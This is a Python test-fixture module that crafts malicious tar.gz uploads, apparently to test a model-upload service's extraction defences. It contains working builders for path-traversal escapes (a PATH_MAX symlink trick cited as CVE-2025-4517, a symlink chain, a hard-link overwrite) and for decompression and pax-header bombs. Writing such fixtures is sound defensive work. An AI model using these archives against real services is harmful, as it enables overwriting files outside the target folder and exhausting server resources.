"""Crafted push bodies: gzip tars built member by member, including the known escape patterns."""

from __future__ import annotations

import gzip
import io
import tarfile

Member = tuple[tarfile.TarInfo, bytes]

CONFIG = b"model_name: crafted\n"
MODEL = b"class Model:\n    def predict(self, model_input):\n        return model_input\n"


def entry(name: str, type_: bytes = tarfile.REGTYPE, data: bytes = b"", *, linkname: str = "",
          mode: int | None = None) -> Member:
    info = tarfile.TarInfo(name)
    info.type = type_
    info.linkname = linkname
    info.size = len(data) if type_ in (tarfile.REGTYPE, tarfile.AREGTYPE) else 0
    info.mode = mode if mode is not None else (0o755 if type_ == tarfile.DIRTYPE else 0o644)
    return info, data


def folder(name: str, mode: int = 0o755) -> Member:
    return entry(name, tarfile.DIRTYPE, mode=mode)


def symlink(name: str, target: str) -> Member:
    return entry(name, tarfile.SYMTYPE, linkname=target)


def hardlink(name: str, target: str) -> Member:
    return entry(name, tarfile.LNKTYPE, linkname=target)


def model_folder(config: bytes = CONFIG) -> list[Member]:
    """A valid model folder: config.yaml and model/model.py."""
    return [entry("config.yaml", data=config), folder("model"), entry("model/model.py", data=MODEL)]


def targz(members: list[Member], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=fmt) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.size else None)
    return buf.getvalue()


def path_max_escape(outside_from_dest: str) -> list[Member]:
    """CVE-2025-4517: folders with 247-character names reached through one-letter links, so
    that `os.path.realpath` (which tarfile's `data` filter trusts) passes PATH_MAX and stops
    resolving links, while the kernel resolves them one by one. A link at the bottom climbs back
    to the top and out to `outside_from_dest` (relative to the unpack folder); a file written
    through it lands there. Python 3.11.7's `extractall(filter="data")` writes it."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    members: list[Member] = []
    path = ""
    for step in steps:
        members.append(folder(path + comp))
        members.append(symlink(path + step, comp))
        path = f"{path}{step}/"
    bottom = path + "l" * 254
    members.append(symlink(bottom, "../" * len(steps)))
    members.append(symlink("escape", f"{bottom}/{outside_from_dest}"))
    members.append(entry("escape/pwned", data=b"written outside"))
    return members


def symlinked_folder_chain(outside_from_dest: str) -> list[Member]:
    """A chain of links to folders that ends outside, then a file written through the chain."""
    return [
        folder("x"),
        symlink("x/up", ".."),
        symlink("hop", "x/up/x/up/" + outside_from_dest),
        entry("hop/pwned", data=b"written outside"),
    ]


def hardlink_escape(outside_file: str) -> list[Member]:
    """A hard link to a file outside, then a member that writes through it."""
    return [hardlink("h", outside_file), entry("h", data=b"overwritten")]


def gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9)


def bomb(size: int) -> bytes:
    """A model folder with one `size`-byte file of zeros: a tiny upload that unpacks huge."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", compresslevel=9) as tar:
        for info, data in model_folder():
            tar.addfile(info, io.BytesIO(data) if info.size else None)
        info = tarfile.TarInfo("data/zeros.bin")
        info.size = size
        tar.addfile(info, _Zeros(size))
    return buf.getvalue()


class _Zeros(io.RawIOBase):
    def __init__(self, size: int):
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, b) -> int:
        n = min(len(b), self.left)
        b[:n] = bytes(n)
        self.left -= n
        return n


def pax_header_bomb(size: int) -> bytes:
    """A pax extended header that claims `size` bytes (tarfile would read it whole)."""
    header = tarfile.TarInfo("././@PaxHeader")
    header.type = tarfile.XHDTYPE
    header.size = size
    block = header.tobuf(format=tarfile.USTAR_FORMAT)
    body = b"9 a=bbbb\n" * (size // 9) + b"\n" * (size % 9)
    pad = b"\0" * (-len(body) % 512)
    return gz(block + body + pad + b"\0" * 1024)
